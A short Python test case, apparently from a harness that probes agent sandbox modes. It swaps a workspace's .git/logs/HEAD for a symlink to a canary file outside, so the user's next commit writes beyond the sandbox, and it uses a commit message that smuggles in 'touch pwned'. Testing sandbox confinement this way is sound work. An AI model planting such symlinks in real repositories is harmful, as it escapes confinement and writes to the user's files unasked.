"""make .git/logs/HEAD a link to a file outside: the user's next commit appends a line of chosen text there"""
import os

STOPS = ["read-only", "workspace-write"]


def attempt(bait):
    path = bait.ws + "/.git/logs/HEAD"
    os.unlink(path)
    os.symlink(bait.canary, path)
    return "planted"


def escaped(bait):
    bait.git("commit", "--allow-empty", "-qm", "x; touch pwned")
    return open(bait.canary).read() != "ORIGINAL\n" and "the user's commit wrote outside"
